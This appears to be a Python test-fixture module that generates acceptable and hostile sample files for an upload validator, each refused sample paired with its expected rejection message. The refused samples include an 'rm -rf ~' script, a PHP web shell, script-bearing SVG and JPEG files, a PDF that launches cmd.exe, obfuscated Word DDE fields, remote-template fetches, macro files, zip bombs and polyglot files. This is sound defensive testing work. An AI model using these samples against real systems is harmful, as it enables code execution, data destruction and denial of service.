"""Files that people send as evidence, and what others might send in their place. All are made here."""

import io
import struct
import zipfile
import zlib

import xlsxwriter
from docx import Document
from PIL import Image

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def pdf(*objects, head=b"", tail=b""):
    """A small PDF; each of `objects` is the inside of one, or (inside, stream)."""
    made = b"%PDF-1.7\n" + head
    for number, each in enumerate(
        (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>", *objects), 1
    ):
        words, stream = each if isinstance(each, tuple) else (each, None)
        made += b"%d 0 obj\n%s" % (number, words)
        if stream is not None:
            made += b"\nstream\n%s\nendstream" % stream
        made += b"\nendobj\n"
    return made + b"trailer\n<</Root 1 0 R>>\n" + tail + b"%%EOF\n"


def packed_objects(inside, head=b"<</Type/ObjStm/N 1/First 5/Filter/FlateDecode>>"):
    return head, zlib.compress(b"12 0 " + inside)


def picture(form="PNG", size=(8, 8), **options):
    made = io.BytesIO()
    Image.new("RGB", size, "teal").save(made, form, **options)
    return made.getvalue()


def drawn_over_and_over(times=200):
    """A JPEG that says its points anew so many times."""
    whole = picture("JPEG", (64, 64), progressive=True)
    last = whole.rindex(b"\xff\xda")
    return whole[:-2] + whole[last:-2] * times + b"\xff\xd9"


def huge_png(width=30_000, height=30_000):
    """A picture that says it has so many pixels, and holds none of them."""

    def chunk(name, content):
        return (
            struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b""))
        + chunk(b"IEND", b"")
    )


def docx(text="Minutes of the review"):
    made, document = io.BytesIO(), Document()
    document.add_paragraph(text)
    document.save(made)
    return made.getvalue()


def xlsx(cell="42"):
    made = io.BytesIO()
    with xlsxwriter.Workbook(made, {"in_memory": True}) as book:
        book.add_worksheet().write_string(0, 0, cell)
    return made.getvalue()


def zipped(parts, comment=b""):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        archive.comment = comment
    return made.getvalue()


def with_parts(data, parts, replace=()):
    """The office file `data` with more `parts`; `replace` are (name, old, new) in the bytes of one."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        held = {name: archive.read(name) for name in archive.namelist()}
    for name, old, new in replace:
        assert old in held[name], name
        held[name] = held[name].replace(old, new)
    return zipped(held | parts)


def related(relation):
    """A document with one relation more, as it is written."""
    end = b"</Relationships>"
    return with_parts(docx(), {}, [("word/_rels/document.xml.rels", end, relation.encode() + end)])


def fetching(kind, target, mode='TargetMode="External"'):
    """A document with a relation of that kind to something outside."""
    return related(f'<Relationship Id="r99" Type="{RELATIONS}/{kind}" Target="{target}" {mode}/>')


def fetching_with_a_prefix():
    relation = f'<a-b:Relationship Id="r1" Type="{RELATIONS}/attachedTemplate" Target="https://a.example" TargetMode="External"/>'
    names = "http://schemas.openxmlformats.org/package/2006/relationships"
    xml = f'<a-b:Relationships xmlns:a-b="{names}">{relation}</a-b:Relationships>'
    return with_parts(docx(), {"word/_rels/settings.xml.rels": xml.encode()})


WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def with_field(runs, part="word/header1.xml"):
    """A document with a part of Word's that holds `runs`."""
    return with_parts(docx(), {part: f"<w:hdr {WORD}><w:p>{runs}</w:p></w:hdr>".encode()})


def field(said):
    """Word's runs of one field; `said` may hold the runs of another."""
    return f'<w:fldChar w:fldCharType="begin"/>{said}<w:fldChar w:fldCharType="separate"/><w:t>1</w:t><w:fldChar w:fldCharType="end"/>'


def instruction(words):
    return f"<w:instrText>{words}</w:instrText>"


def with_workbooks(number, size):
    """A document with so many workbooks inside, each of which unpacks to so many bytes more than it needs."""
    book = with_parts(xlsx(), {"xl/media/large.bin": b"\0" * size})
    return with_parts(docx(), {f"word/embeddings/book{n}.xlsx": book for n in range(number)})


def lying_zip():
    """An entry that says it is small and unpacks to more."""
    data = bytearray(
        zipped(
            {"[Content_Types].xml": b"wordprocessingml.document.main+xml", "word/document.xml": b"x" * 5000}
        )
    )
    place = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, place + 24, 10)
    return bytes(data)


def old_office(sign):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + sign.encode("utf-16-le") + b"\0" * 600


GOOD = {
    "PDF": ("Forecast.pdf", pdf(), "pdf"),
    "PDF with a link and a jump": ("f.pdf", pdf(b"<</S/URI/URI(https://a.example)>>", b"<</S/GoTo/D[1 0 R]>>"), "pdf"),
    "PDF with data inside, as our own reports": (
        "report.pdf",
        pdf(
            b"<</Type/Filespec/EF<</F 4 0 R>>>>",
            (b"<</Type/EmbeddedFile/Filter/FlateDecode>>", zlib.compress(b"code,gap\nPR1,2\n")),
        ),
        "pdf",
    ),
    "PNG": ("Wall.png", picture(), "png"),
    "JPEG": ("Wall.jpeg", picture("JPEG"), "jpg"),
    "Word": ("Minutes.docx", docx(), "docx"),
    "Word with a template of its own computer": (
        "Minutes.docx",
        fetching("attachedTemplate", "file:///C:\\Templates\\Normal.dotm"),
        "docx",
    ),
    "Word with a link": ("Minutes.docx", fetching("hyperlink", "https://a.example"), "docx"),
    "Word with the table of a chart": (
        "Chart.docx",
        with_parts(docx(), {"word/embeddings/Microsoft_Excel_Sheet.xlsx": xlsx()}),
        "docx",
    ),
    "Word with fields in fields": (
        "Letter.docx",
        with_field(field(instruction("TOC \\o")) + field(instruction("IF ") + field(instruction("PAGE")) + instruction(" = 1"))),
        "docx",
    ),
    "Word with a part in UTF-16": (
        "Letter.docx",
        with_parts(docx(), {"customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16")}),
        "docx",
    ),
    "JPEG drawn in steps": ("Wall.jpg", picture("JPEG", (640, 480), progressive=True), "jpg"),
    "PDF with the word stream at the end of lines": ("f.pdf", pdf((b"<<>>", b"the stream\nand the stream\n")), "pdf"),
    "Excel": ("Figures.xlsx", xlsx(), "xlsx"),
    "CSV with formulas": ("f.csv", b"a,b\n=HYPERLINK(1),@SUM(A1)\n", "csv"),
    "UTF-16 text": ("n.txt", "Grüße".encode("utf-16"), "txt"),
    "UTF-8 text": ("n.txt", "Grüße 日本".encode(), "txt"),
    "Latin text": ("n.txt", "Grüße".encode("latin-1"), "txt"),
    "text that begins as a picture would": ("n.txt", b"BMW is the client.", "txt"),
    "text without an ending": ("README", b"Read this.", "txt"),
}  # fmt: skip
EMPTY_ZIP = zipped({})
REFUSED = {
    "nothing at all": ("a.pdf", b"", "This file is empty."),
    "a program for Windows": ("a.pdf", b"MZ\x90\0\x03\0" + b"\0" * 60, "program for Windows"),
    "a program for Linux": ("a.png", b"\x7fELF\x02\x01\x01\0", "program for Linux"),
    "a Java class": ("a.pdf", b"\xca\xfe\xba\xbe\0\0\0\x34", "program for macOS or Java"),
    "a Windows shortcut": ("a.txt", b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0", "Windows shortcut"),
    "a shell script": ("a.txt", b"#!/bin/sh\nrm -rf ~\n", "This is a script"),
    "a script by its ending": ("a.js", b"alert(1)", "ends in .js"),
    "a batch file": ("offer.pdf.bat", b"@echo off\n", "ends in .bat"),
    "HTML": ("a.txt", b"\n <!DOCTYPE html><p>hello", "“<!DOCTYPE”"),
    "HTML in UTF-16": ("a.txt", "<html><script>alert(1)</script>".encode("utf-16"), "“<html”"),
    "SVG": ("a.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "“<svg”"),
    "XML": ("a.csv", b'<?xml version="1.0"?><a/>', "“<?xml”"),
    "PHP": ("a.csv", b"<?php system($_GET[0]);", "“<?php”"),
    "text with NUL": ("a.txt", b"one\0two", "no readable text"),
    "bytes of no alphabet": ("a.csv", bytes(range(128, 256)), "no readable text"),
    "a GIF": ("a.png", b"GIF89a\x01\0\x01\0", "GIF picture"),
    "a WebP": ("a.png", b"RIFF\x24\0\0\0WEBPVP8 ", "WebP picture"),
    "a photo of a phone": ("a.jpg", b"\0\0\0\x18ftypheic\0\0\0\0", "HEIC"),
    "an RTF document": ("a.docx", rb"{\rtf1 hello}", "RTF document"),
    "gzip": ("a.csv", b"\x1f\x8b\x08\0\0\0\0\0", "gzip"),
    "a plain zip": ("a.zip", zipped({"a.txt": b"hello"}), "packed file (ZIP)"),
    "an empty zip": ("a.docx", EMPTY_ZIP, "packed file (ZIP)"),
    "an old Word document": ("a.doc", old_office("WordDocument"), "the old kind"),
    "an Office file with a password": ("a.docx", old_office("EncryptedPackage"), "has a password"),
    "half a PDF": ("a.pdf", pdf()[:-8], "its end is missing"),
    "a PDF of nothing": ("a.pdf", b"%PDF-1.7\n%%EOF", "there is nothing in it"),
    "a PDF that is a page too": ("a.pdf", pdf(head=b"<html><script>alert(1)</script>\n"), "a page for a browser too"),
    "a PDF that is a zip too": ("a.pdf", pdf() + zipped({"a": b"b"}), "Behind the end of this PDF"),
    "a PDF with a script": ("a.pdf", pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "a script (JavaScript)"),
    "a PDF with a script under another spelling": ("a.pdf", pdf(b"<</S/J#61va#53cript/JS(1)>>"), "a script (JavaScript)"),
    "a PDF with a packed script": ("a.pdf", pdf(packed_objects(b"<</S/JavaScript/JS(1)>>")), "a script (JavaScript)"),
    "a PDF with a packed script that does not say so": (
        "a.pdf",
        pdf(packed_objects(b"<</S/JavaScript/JS(1)>>", b"<</Filter/FlateDecode>>")),
        "a script (JavaScript)",
    ),
    "a PDF with objects packed in a rare way": (
        "a.pdf",
        pdf((b"<</Type/ObjStm/N 1/First 5/Filter/ASCIIHexDecode>>", b"3132203020>")),
        "cannot be looked through",
    ),
    "a PDF that starts a program": ("a.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>"), "starts a program"),
    "a PDF that sends": ("a.pdf", pdf(b"<</S/SubmitForm/F(https://a.example)>>"), "sends what is typed"),
    "a PDF with XFA": ("a.pdf", pdf(b"<</XFA 5 0 R>>"), "XFA"),
    "a PDF with a password": ("a.pdf", pdf(tail=b"<</Encrypt 5 0 R>>\n"), "has a password"),
    "a PDF with a program inside": (
        "a.pdf",
        pdf(b"<</Type/Filespec/EF<</F 4 0 R>>>>", (b"<</Type/EmbeddedFile>>", b"MZ\x90\0\x03\0\0\0")),
        "cannot be looked through",
    ),
    "a PDF with a packed picture inside": (
        "a.pdf",
        pdf(
            b"<</Type/Filespec/EF<</F 4 0 R>>>>",
            (b"<</Type/EmbeddedFile/Filter/FlateDecode>>", zlib.compress(picture())),
        ),
        "another file that is no plain text",
    ),
    "a PDF with a file inside that is nowhere": ("a.pdf", pdf(b"<</EF<</F 99 0 R>>>>"), "cannot be looked through"),
    "a PDF that unpacks to too much": ("a.pdf", pdf(packed_objects(b"(" + b" " * 70_000_000 + b")")), "far more than it should"),
    "half a PNG": ("a.png", picture(size=(64, 64))[:-20], "damaged or not complete"),
    "half a JPEG": ("a.jpg", picture("JPEG", (64, 64))[:-40], "damaged or not complete"),
    "a PNG that is a zip too": ("a.png", picture() + zipped({"a": b"b"}), "Behind the end of this picture"),
    "a JPEG that is a Java archive too": ("a.jpg", picture("JPEG") + zipped({"A.class": b"\xca\xfe"}), "Behind the end of this picture"),
    "a JPEG with a page in its notes": (
        "a.jpg",
        b"\xff\xd8\xff\xfe\0\x12<script>alert(1)" + picture("JPEG")[2:],
        "hides a page or a script",
    ),
    "a picture of 900 million pixels": ("a.png", huge_png(), "far more pixels"),
    "a picture of 100 million pixels": ("a.png", huge_png(10_000, 10_000), "10000 × 10000 pixels"),
    "a Word document with macros": (
        "a.docx",
        with_parts(docx(), {"word/vbaProject.bin": b"\xd0\xcf"}),
        "macros (word/vbaProject.bin)",
    ),
    "a DOCM": (
        "a.docx",
        with_parts(
            docx(),
            {},
            [
                (
                    "[Content_Types].xml",
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            ],
        ),
        "may hold macros",
    ),
    "an XLSM": (
        "a.xlsx",
        with_parts(
            xlsx(),
            {},
            [
                (
                    "[Content_Types].xml",
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                )
            ],
        ),
        "may hold macros",
    ),
    "an Excel workbook with old macros": ("a.xlsx", with_parts(xlsx(), {"xl/macrosheets/sheet1.xml": b"<x/>"}), "macros"),
    "a Word document that fetches its template": (
        "a.docx",
        fetching("attachedTemplate", "https://a.example/t.dotm"),
        "fetches something from elsewhere when it is opened (attachedTemplate)",
    ),
    "a Word document that fetches its template from a share": (
        "a.docx",
        fetching("attachedTemplate", "file://host/share/t.dotm"),
        "(attachedTemplate)",
    ),
    "a Word document that fetches a picture": ("a.docx", fetching("image", "https://a.example/p.png"), "(image)"),
    "a template fetched by a mode spelled with numbers": (
        "a.docx", fetching("attachedTemplate", "https://a.example/t.dotm", 'TargetMode="Ext&#101;rnal"'), "(attachedTemplate)"
    ),
    "a template fetched behind an angle in a text": (
        "a.docx", fetching("attachedTemplate", "https://a.example/t.dotm?a>b"), "(attachedTemplate)"
    ),
    "a template fetched under a prefix": ("a.docx", fetching_with_a_prefix(), "(attachedTemplate)"),
    "relations that declare a document type": ("a.docx", with_parts(docx(), {"word/_rels/a.xml.rels": b"<!DOCTYPE a><a/>"}), "damaged"),
    "relations without end": ("a.docx", with_parts(docx(), {"word/_rels/a.xml.rels": b"<Relationship " * 20_000}), "damaged"),
    "relations of many megabytes": ("a.docx", with_parts(docx(), {"word/_rels/a.xml.rels": b"<a>" + b" " * 2_000_000 + b"</a>"}), "unpacks to far more"),
    "an object under a harmless name": (
        "a.docx", related(f'<Relationship Id="r99" Type="{RELATIONS}/oleObject" Target="media/p.png"/>'), "could run (/media/p.png)"
    ),
    "a packed object under a harmless name": (
        "a.docx", related(f'<Relationship Id="r99" Type="{RELATIONS}/package" Target="media/p.png"/>'), "could run (/media/p.png)"
    ),
    "a page of others pasted into a Word document": (
        "a.docx", related(f'<Relationship Id="r99" Type="{RELATIONS}/aFChunk" Target="part.mht"/>'), "could run (/part.mht)"
    ),
    "a Word document with an object in it": (
        "a.docx",
        with_parts(docx(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf"}),
        "oleObject1.bin",
    ),
    "a Word document with a program in it": (
        "a.docx",
        with_parts(docx(), {"word/embeddings/setup.exe": b"MZ"}),
        "setup.exe",
    ),
    "a Word document with a workbook with macros in it": (
        "a.docx",
        with_parts(docx(), {"word/embeddings/book.xlsx": with_parts(xlsx(), {"xl/vbaProject.bin": b"x"})}),
        "macros",
    ),
    "an Excel workbook that starts another program": (
        "a.xlsx",
        with_parts(xlsx(), {"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"}),
        "DDE",
    ),
    "a Word document that starts another program": (
        "a.docx",
        with_parts(docx("DDEMARK"), {}, [("word/document.xml", b"<w:t>DDEMARK", b"<w:instrText>DDEAUTO cmd</w:instrText><w:t>")]),
        "DDE",
    ),
    "a program started from a heading": ("a.docx", with_field(field(instruction("DDEAUTO cmd"))), "DDE"),
    "a program started from a part of any name": ("a.docx", with_field(field(instruction(" dde cmd")), "word/more.bin"), "DDE"),
    "a program started by letters spelled with numbers": ("a.docx", with_field(field(instruction("&#68;DEAUTO cmd"))), "DDE"),
    "a program started by words that are split": ("a.docx", with_field(field(instruction("DDE") + instruction("AUTO cmd"))), "DDE"),
    "a program started by a field that another one makes": (
        "a.docx", with_field(field(field(instruction("QUOTE 68 68 69")) + instruction(" cmd"))), "DDE"
    ),
    "a program started by a simple field": ("a.docx", with_field('<w:fldSimple w:instr="DDEAUTO cmd"/>'), "DDE"),
    "a program started from a part in UTF-16": (
        "a.docx",
        with_parts(docx(), {"word/header1.xml": f"<w:hdr {WORD}>{field(instruction('DDE cmd'))}</w:hdr>".encode("utf-16")}),
        "DDE",
    ),
    "a part in letters that hide what it says": (
        "a.docx", with_parts(docx(), {"word/header1.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}), "damaged"
    ),
    "a part that is no XML": ("a.docx", with_parts(docx(), {"word/header1.xml": "<a/>".encode("utf-16-le")}), "damaged"),
    "workbooks inside that unpack to too much together": ("a.docx", with_workbooks(4, 45_000_000), "unpacks to far more"),
    "a JPEG drawn over and over": ("a.jpg", drawn_over_and_over(), "over and over"),
    "a PDF of streams in a stream": ("a.pdf", pdf(b"<</EF<</F 3 0 R>>>>", head=b"stream\n" * 60), "far more parts"),
    "a presentation": (
        "a.docx",
        zipped({"[Content_Types].xml": b'<a ContentType="presentationml.presentation.main+xml"/>'}),
        "neither a Word document nor an Excel workbook",
    ),
    "a zip bomb as a Word document": (
        "a.docx",
        with_parts(docx(), {"word/media/bomb.bin": b"\0" * 160_000_000}),
        "unpacks to far more",
    ),
    "a zip that says less than it unpacks to": ("a.docx", lying_zip(), "damaged or not complete"),
    "a document of thousands of parts": ("a.docx", with_parts(docx(), {f"word/{n}.xml": b"" for n in range(3001)}), "unpacks to far more"),
    "half a Word document": ("a.docx", docx()[:-200], "damaged or not complete"),
    "a Word document behind a page": ("a.docx", b"PK\x03\x04<html>" + docx(), "Before or behind"),
    "a Word document with more behind it": ("a.docx", docx() + b"<script>", "Before or behind"),
}  # fmt: skip
